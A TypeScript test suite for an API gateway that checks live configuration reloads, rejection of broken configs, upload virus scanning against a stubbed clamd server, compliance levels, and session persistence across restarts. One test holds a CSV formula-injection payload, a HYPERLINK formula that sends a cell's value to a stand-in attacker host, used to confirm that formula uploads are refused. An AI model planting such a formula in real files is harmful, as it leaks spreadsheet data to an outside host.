import { type AddressInfo, createServer } from 'node:net';
import { type ConfigInput, configSchema } from '@menshen/contract';
import { afterAll, beforeAll, expect, it } from 'vitest';
import { ConfigError } from './config/config-error.ts';
import type { Deployment } from './testing/deployment.ts';
import { describeEachEngine } from './testing/engines.ts';

describeEachEngine('a change of the configuration', (start) => {
  let deployment: Deployment;
  beforeAll(async () => {
    deployment = await start();
  });
  afterAll(() => deployment.close());

  const withRoutes = (...routes: { match: string; auth: 'none' }[]) => {
    const [app] = deployment.config.apps ?? [];
    if (app === undefined) throw new Error('no app');
    return configSchema.parse({ ...deployment.config, apps: [{ ...app, routes: [...(app.routes ?? []), ...routes] }] });
  };

  it('takes effect between two requests and drops none of those under way', async () => {
    expect((await deployment.call('GET', '/portal/new')).status).toBe(404);
    const before = deployment.backend.answer;
    const waiting: (() => void)[] = [];
    deployment.backend.answer = (_request, response) => void waiting.push(() => response.end('{}'));
    const underWay = Array.from({ length: 20 }, () => deployment.call('GET', '/portal/public'));
    while (waiting.length < 20) await new Promise((resolve) => setImmediate(resolve));
    await deployment.platform.reload(withRoutes({ match: 'GET /new', auth: 'none' }), deployment.folder);
    for (const release of waiting) release();
    expect((await Promise.all(underWay)).map((answer) => answer.status)).toEqual(Array.from({ length: 20 }, () => 200));
    deployment.backend.answer = before;
    expect((await deployment.call('GET', '/portal/new')).status).toBe(200);
  });

  it('changes nothing when it is broken, and says what is wrong', async () => {
    const [app] = deployment.config.apps ?? [];
    const overlapping = configSchema.parse({ ...deployment.config, apps: [app, { ...app, id: 'other' }] });
    await expect(deployment.platform.reload(overlapping, deployment.folder)).rejects.toThrow(ConfigError);
    const twice = withRoutes({ match: 'GET /public', auth: 'none' });
    await expect(deployment.platform.reload(twice, deployment.folder)).rejects.toThrow(/two routes match/);
    expect((await deployment.call('GET', '/portal/public')).status).toBe(200);
  });

  it('is taken over in what is said of files and in what is asked of the company', async () => {
    const answering = async (answer: string) => {
      const server = createServer((socket) => {
        socket.on('error', () => undefined);
        socket.on('data', (chunk) => void (chunk.subarray(-4).equals(Buffer.alloc(4)) && socket.end(answer)));
      });
      await new Promise<void>((resolve) => server.listen(0, '127.0.0.1', resolve));
      const { port } = server.address() as AddressInfo;
      return { server, scanner: { kind: 'clamd' as const, address: `tcp://127.0.0.1:${port}` } };
    };
    const [clean, infected] = [await answering('stream: OK\0'), await answering('stream: Found-It FOUND\0')];
    try {
      const [app] = deployment.config.apps ?? [];
      if (app === undefined) throw new Error('no app');
      const files = { match: 'POST /tables', auth: 'none' as const, body: { types: ['multipart' as const] } };
      const take = (more: ConfigInput) =>
        deployment.platform.reload(
          configSchema.parse({
            ...{ ...deployment.config, ...more },
            apps: [{ ...app, routes: [...(app.routes ?? []), { ...files, uploads: { types: ['csv'], scan: true } }] }],
          }),
          deployment.folder,
        );
      const { compliance } = deployment.platform;
      const send = async (text: string) => {
        const head = 'content-disposition: form-data; name="file"; filename="a.csv"\r\ncontent-type: text/csv';
        const answer = await fetch(`${deployment.gatewayUrl}/portal/tables`, {
          method: 'POST',
          headers: { 'content-type': 'multipart/form-data; boundary=x' },
          body: `--x\r\n${head}\r\n\r\n${text}\r\n--x--\r\n`,
        });
        return answer.ok ? 'passed' : ((await answer.json()) as { code: string }).code;
      };
      const formula = 'name,sum\n=HYPERLINK("http://evil.example/"&A1),1\n';
      await take({ uploads: { scanner: clean.scanner, content: { formula: 'allow' } }, compliance: { mlps: { level: 2 } } });
      const two = compliance.framework('mlps').requirements.length;
      expect([await send('name,sum\na,1\n'), await send(formula)]).toEqual(['passed', 'passed']);
      await take({ uploads: { scanner: clean.scanner, content: { formula: 'refuse' } }, compliance: { mlps: { level: 3 } } });
      expect([await send('name,sum\na,1\n'), await send(formula)]).toEqual(['passed', expect.not.stringMatching('passed')]);
      expect(compliance.framework('mlps').requirements.length).toBeGreaterThan(two);
      expect((await compliance.assess('all')).standings.get('mlps')?.length).toBe(
        compliance.framework('mlps').requirements.length,
      );
      await take({ uploads: { scanner: infected.scanner }, compliance: { attestations: { files: 1 } } });
      expect([await send('name,sum\na,1\n'), compliance.config().attestations.files]).toEqual(['upload_infected', 1]);
    } finally {
      clean.server.close();
      infected.server.close();
    }
  });

  it('keeps sessions, roles and bindings over a restart', async () => {
    const token = await deployment.token('zhang');
    await deployment.platform.directory.setRoles('zhang', ['admin'], 'test');
    const { place } = deployment;
    await deployment.close({ keep: true });
    deployment = await start({ place });
    expect((await deployment.call('GET', '/portal/admin', { token })).status).toBe(200);
    expect(await deployment.platform.queries.verify()).toMatchObject({ ok: true });
  });
});
